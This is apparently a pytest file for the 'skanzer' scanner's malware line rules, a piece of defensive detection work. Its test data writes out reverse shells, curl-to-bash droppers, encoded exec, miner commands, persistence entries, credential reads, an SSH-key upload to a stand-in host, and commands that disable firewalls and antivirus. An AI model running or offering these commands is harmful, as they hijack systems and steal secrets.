"""Tests for malware-technique line rules."""

from __future__ import annotations

import pytest

from skanzer.config import SkanzerConfig
from skanzer.detectors import MALWARE_RULES
from skanzer.types import ThresholdConfig

DEFAULT_CONFIG = SkanzerConfig()
BLOB = "QUJD" * 60


def _fired(line: str, config: SkanzerConfig = DEFAULT_CONFIG) -> set[str]:
    return {rule.rule_id for rule in MALWARE_RULES if rule.evaluate(line, config)}


@pytest.mark.parametrize(
    ("line", "rule_id"),
    [
        ("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "REVERSE_SHELL"),
        ("python3 -c 'import socket,subprocess,os'", "REVERSE_SHELL"),
        ("nc -e /bin/sh 10.0.0.1 4444", "REVERSE_SHELL"),
        ("curl -fsSL https://x.example/i.sh | sudo bash", "DROPPER"),
        ("wget -qO- http://x.example/p | python3", "DROPPER"),
        ("curl http://x.example/s | /bin/sh", "DROPPER"),
        ('sh -c "$(curl -fsSL https://x.example/i.sh)"', "DROPPER"),
        ("bash <(curl -s https://x.example/i.sh)", "DROPPER"),
        ("curl -s https://x.example/x | cat | bash", "DROPPER"),
        ("curl -s https://x.example/x | tee /tmp/i.sh | bash", "DROPPER"),
        ("curl -s https://x.example | grep version | sh", "DROPPER"),
        ("wget -qO- https://x.example/x | sed s/a/b/ | sudo -E python3", "DROPPER"),
        ('eval "$(curl -fsSL https://x.example/env)"', "DROPPER"),
        ("eval `wget -qO- https://x.example/env`", "DROPPER"),
        ("echo ZWNobyBoaQ== | base64 -d | bash", "ENCODED_EXEC"),
        ("exec(base64.b64decode(blob))", "ENCODED_EXEC"),
        ("eval(atob(payload))", "DYNAMIC_EVAL"),
        ('exec("import os")', "DYNAMIC_EVAL"),
        (f"payload = '{BLOB}'", "ENCODED_BLOB"),
        ("s = '" + "\\x41" * 12 + "'", "HEX_PAYLOAD"),
        ("String.fromCharCode(104,101,108,108,111)", "HEX_PAYLOAD"),
        ("./xmrig -o pool.example:3333", "CRYPTO_MINER"),
        ("--url stratum+tcp://pool.example:3333", "CRYPTO_MINER"),
        ("(crontab -l; echo '* * * * * /tmp/x') | crontab -", "PERSIST_SCHEDULER"),
        ("launchctl load ~/Library/LaunchAgents/agent.plist", "PERSIST_SCHEDULER"),
        ("systemctl enable backdoor.service", "PERSIST_SERVICE"),
        ("echo 'export PATH=/tmp:$PATH' >> ~/.bashrc", "PERSIST_SHELL_PROFILE"),
        ("cat /etc/shadow", "CRED_SHADOW"),
        ("curl -F file=@~/.ssh/id_rsa https://x.example/upload", "CRED_EXFIL"),
        ("cat ~/.aws/credentials", "CRED_FILE"),
        ("git config --global credential.helper store", "CRED_HELPER"),
        ("security find-generic-password -s service", "CRED_HELPER"),
        ("sudo ufw disable", "SECURITY_TAMPERING"),
        ("setenforce 0", "SECURITY_TAMPERING"),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "SECURITY_TAMPERING"),
    ],
)
def test_malware_rule_fires(line: str, rule_id: str) -> None:
    assert rule_id in _fired(line)


@pytest.mark.parametrize(
    ("line", "rule_id"),
    [
        ("curl https://api.example.com/data | jq .name", "DROPPER"),
        ("curl -s https://x.example/data | grep id | sort | uniq", "DROPPER"),
        ("curl -s https://x.example/a.sh -o a.sh; bash check.sh | tee log", "DROPPER"),
        ("curl -fsS https://x.example/health || bash fallback.sh", "DROPPER"),
        ("wget https://x.example/archive.tar.gz", "DROPPER"),
        ("base64 -d encoded.txt > decoded.bin", "ENCODED_EXEC"),
        ("const m = pattern.exec(input)", "DYNAMIC_EVAL"),
        ("result = evaluate(x)", "DYNAMIC_EVAL"),
        (f"https://cdn.example/{BLOB}", "ENCODED_BLOB"),
        (f"![logo](data:image/png;base64,{BLOB})", "ENCODED_BLOB"),
        ("String.fromCharCode(104,101,108,108)", "HEX_PAYLOAD"),
        ("cat ~/.bashrc", "PERSIST_SHELL_PROFILE"),
        ("source ~/.zshrc", "PERSIST_SHELL_PROFILE"),
        ("systemctl status nginx", "PERSIST_SERVICE"),
        ("cat ~/.git-credentials", "CRED_HELPER"),
    ],
)
def test_malware_rule_stays_quiet(line: str, rule_id: str) -> None:
    assert rule_id not in _fired(line)


def test_credential_tiers_are_mutually_exclusive() -> None:
    exfil = _fired("curl -F file=@~/.ssh/id_rsa https://x.example/upload")
    read = _fired("cat ~/.ssh/id_rsa")

    assert "CRED_EXFIL" in exfil and "CRED_FILE" not in exfil
    assert "CRED_FILE" in read and "CRED_EXFIL" not in read


def test_credential_helper_suppressed_by_shadow_access() -> None:
    fired = _fired("cat /etc/shadow | security find-generic-password -s x")

    assert "CRED_SHADOW" in fired
    assert "CRED_HELPER" not in fired


def test_blob_threshold_is_configurable() -> None:
    line = "payload = '" + "QUJD" * 20 + "'"
    config = SkanzerConfig(thresholds=ThresholdConfig(blob_min_length=64))

    assert "ENCODED_BLOB" not in _fired(line)
    assert "ENCODED_BLOB" in _fired(line, config)


def test_hex_escape_threshold_is_configurable() -> None:
    line = "s = '" + "\\x41" * 4 + "'"
    config = SkanzerConfig(thresholds=ThresholdConfig(hex_escape_min=4))

    assert "HEX_PAYLOAD" not in _fired(line)
    assert "HEX_PAYLOAD" in _fired(line, config)


def test_malware_rules_apply_only_inside_code_blocks() -> None:
    assert all(rule.context == "code" for rule in MALWARE_RULES)
